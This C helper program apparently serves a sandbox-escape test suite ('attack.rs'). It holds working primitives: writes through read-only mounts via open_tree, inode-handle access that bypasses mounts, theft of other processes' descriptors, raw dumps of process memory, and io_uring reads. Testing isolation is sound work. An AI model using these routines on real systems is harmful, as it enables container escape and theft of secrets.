// Helper for attack.rs: raw system calls a shell cannot make. Prints what it reads to stdout.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#ifndef AT_RECURSIVE
#define AT_RECURSIVE 0x8000
#endif

static void dump(int fd, const char *what) {
    char buf[4096];
    ssize_t n;
    if (fd < 0) { printf("%s: open failed: %s\n", what, strerror(errno)); return; }
    while ((n = read(fd, buf, sizeof buf)) > 0) fwrite(buf, 1, n, stdout);
    if (n < 0) printf("%s: read failed: %s\n", what, strerror(errno));
    close(fd);
}

static void list(int dfd, const char *what) {
    int d = dup(dfd);
    DIR *dir = fdopendir(d);
    if (!dir) { printf("%s: list failed: %s\n", what, strerror(errno)); return; }
    struct dirent *e;
    printf("%s:", what);
    while ((e = readdir(dir))) printf(" %s", e->d_name);
    printf("\n");
    closedir(dir);
}

// ino of `name` in `dir`, from the directory entry (not stat: a mount may cover it).
static unsigned long ino_of(const char *dir, const char *name) {
    DIR *d = opendir(dir);
    if (!d) { printf("opendir %s: %s\n", dir, strerror(errno)); return 0; }
    struct dirent *e;
    unsigned long ino = 0;
    while ((e = readdir(d))) if (!strcmp(e->d_name, name)) ino = e->d_ino;
    closedir(d);
    return ino;
}

static int by_handle(const char *mountdir, unsigned long ino, int flags) {
    struct { struct file_handle h; uint32_t f[2]; } fh;
    fh.h.handle_bytes = 8;
    fh.h.handle_type = 1; // FILEID_INO32_GEN, generation 0: ext4 does not check it then
    fh.f[0] = (uint32_t)ino;
    fh.f[1] = 0;
    int m = open(mountdir, O_RDONLY | O_DIRECTORY);
    if (m < 0) { printf("open %s: %s\n", mountdir, strerror(errno)); return -1; }
    int fd = syscall(SYS_open_by_handle_at, m, &fh.h, flags);
    if (fd < 0) printf("open_by_handle_at(%s, ino %lu): %s\n", mountdir, ino, strerror(errno));
    return fd;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *m = argv[1];
    if (!strcmp(m, "opentree") && argc >= 4) {
        // opentree PATH REL [rec]: a detached clone of the mount at PATH, then REL inside it.
        int flags = OPEN_TREE_CLONE | (argc > 4 ? AT_RECURSIVE : 0);
        int t = syscall(SYS_open_tree, AT_FDCWD, argv[2], flags);
        if (t < 0) { printf("open_tree(%s): %s\n", argv[2], strerror(errno)); return 1; }
        dump(openat(t, argv[3], O_RDONLY), "openat in clone");
        return 0;
    }
    if (!strcmp(m, "opentree-write") && argc >= 5) {
        // opentree-write PATH REL TEXT: write TEXT to REL inside a clone of PATH (cleared rdonly).
        int t = syscall(SYS_open_tree, AT_FDCWD, argv[2], OPEN_TREE_CLONE);
        if (t < 0) { printf("open_tree(%s): %s\n", argv[2], strerror(errno)); return 1; }
        struct { uint64_t set, clr, prop, userns; } attr = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
        if (syscall(442 /* mount_setattr */, t, "", AT_EMPTY_PATH, &attr, sizeof attr) < 0)
            printf("mount_setattr: %s\n", strerror(errno));
        int fd = openat(t, argv[3], O_WRONLY | O_CREAT | O_APPEND, 0644);
        if (fd < 0) { printf("openat for write: %s\n", strerror(errno)); return 1; }
        if (write(fd, argv[4], strlen(argv[4])) < 0) printf("write: %s\n", strerror(errno));
        else printf("wrote\n");
        return 0;
    }
    if (!strcmp(m, "handle-dir") && argc >= 6) {
        // handle-dir MOUNTDIR PARENT NAME REL: the directory PARENT/NAME by handle (its inode
        // number read from PARENT's entries), then REL inside it.
        unsigned long ino = ino_of(argv[3], argv[4]);
        printf("ino of %s: %lu\n", argv[4], ino);
        int d = by_handle(argv[2], ino, O_RDONLY | O_DIRECTORY);
        if (d < 0) return 1;
        list(d, "entries");
        dump(openat(d, argv[5], O_RDONLY), "openat in handle dir");
        return 0;
    }
    if (!strcmp(m, "handle-ino") && argc >= 5) {
        // handle-ino MOUNTDIR INO REL: the directory with inode INO by handle, then REL inside.
        int d = by_handle(argv[2], strtoul(argv[3], 0, 10), O_RDONLY | O_DIRECTORY);
        if (d < 0) return 1;
        list(d, "entries");
        dump(openat(d, argv[4], O_RDONLY), "openat in handle dir");
        return 0;
    }
    if (!strcmp(m, "handle-file") && argc >= 4) {
        // handle-file MOUNTDIR PATH: the file PATH by handle (inode from stat).
        struct stat st;
        if (stat(argv[3], &st) < 0) { printf("stat: %s\n", strerror(errno)); return 1; }
        dump(by_handle(argv[2], st.st_ino, O_RDONLY), "handle file");
        return 0;
    }
    if (!strcmp(m, "getfd") && argc >= 4) {
        // getfd PID FD: a copy of another process's descriptor.
        int p = syscall(SYS_pidfd_open, atoi(argv[2]), 0);
        if (p < 0) { printf("pidfd_open: %s\n", strerror(errno)); return 1; }
        int fd = syscall(SYS_pidfd_getfd, p, atoi(argv[3]), 0);
        if (fd >= 0) lseek(fd, 0, SEEK_SET);
        dump(fd, "pidfd_getfd");
        return 0;
    }
    if (!strcmp(m, "vmread") && argc >= 3) {
        // vmread PID: process_vm_readv over every readable mapping, printed raw.
        char path[64], line[512];
        snprintf(path, sizeof path, "/proc/%s/maps", argv[2]);
        FILE *f = fopen(path, "r");
        if (!f) { printf("maps: %s\n", strerror(errno)); return 1; }
        while (fgets(line, sizeof line, f)) {
            unsigned long a, b; char perm[8];
            if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) != 3 || perm[0] != 'r') continue;
            size_t len = b - a; if (len > (64u << 20)) continue;
            char *buf = malloc(len);
            struct iovec l = {buf, len}, r = {(void *)a, len};
            ssize_t n = syscall(SYS_process_vm_readv, atoi(argv[2]), &l, 1, &r, 1, 0);
            if (n < 0) { printf("process_vm_readv: %s\n", strerror(errno)); free(buf); break; }
            fwrite(buf, 1, n, stdout);
            free(buf);
        }
        return 0;
    }
    if (!strcmp(m, "uring") && argc >= 3) {
        // uring PATH: openat + read through io_uring.
        struct io_uring_params p; memset(&p, 0, sizeof p);
        int r = syscall(SYS_io_uring_setup, 4, &p);
        if (r < 0) { printf("io_uring_setup: %s\n", strerror(errno)); return 1; }
        size_t sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
        size_t cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
        char *sq = mmap(0, sq_sz, PROT_READ | PROT_WRITE, MAP_SHARED, r, IORING_OFF_SQ_RING);
        char *cq = (p.features & IORING_FEAT_SINGLE_MMAP) ? sq
            : mmap(0, cq_sz, PROT_READ | PROT_WRITE, MAP_SHARED, r, IORING_OFF_CQ_RING);
        if (p.features & IORING_FEAT_SINGLE_MMAP && cq_sz > sq_sz) {
            munmap(sq, sq_sz);
            sq = cq = mmap(0, cq_sz, PROT_READ | PROT_WRITE, MAP_SHARED, r, IORING_OFF_SQ_RING);
        }
        struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe),
                                         PROT_READ | PROT_WRITE, MAP_SHARED, r, IORING_OFF_SQES);
        unsigned *tail = (unsigned *)(sq + p.sq_off.tail), *mask = (unsigned *)(sq + p.sq_off.ring_mask);
        unsigned *arr = (unsigned *)(sq + p.sq_off.array);
        unsigned *chead = (unsigned *)(cq + p.cq_off.head);
        struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
        static char buf[4096];
        int fd = -1;
        for (int step = 0; step < 2; step++) {
            struct io_uring_sqe *e = &sqes[0];
            memset(e, 0, sizeof *e);
            if (step == 0) {
                e->opcode = IORING_OP_OPENAT; e->fd = AT_FDCWD; e->addr = (uint64_t)argv[2];
                e->open_flags = O_RDONLY;
            } else {
                e->opcode = IORING_OP_READ; e->fd = fd; e->addr = (uint64_t)buf; e->len = sizeof buf - 1;
            }
            arr[*tail & *mask] = 0;
            __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
            if (syscall(SYS_io_uring_enter, r, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0) {
                printf("io_uring_enter: %s\n", strerror(errno)); return 1;
            }
            struct io_uring_cqe *c = &cqes[*chead & (p.cq_entries - 1)];
            int res = c->res;
            __atomic_store_n(chead, *chead + 1, __ATOMIC_RELEASE);
            if (res < 0) { printf("io_uring step %d: %s\n", step, strerror(-res)); return 1; }
            if (step == 0) fd = res; else { buf[res] = 0; printf("%s", buf); }
        }
        return 0;
    }
    printf("unknown mode\n");
    return 2;
}
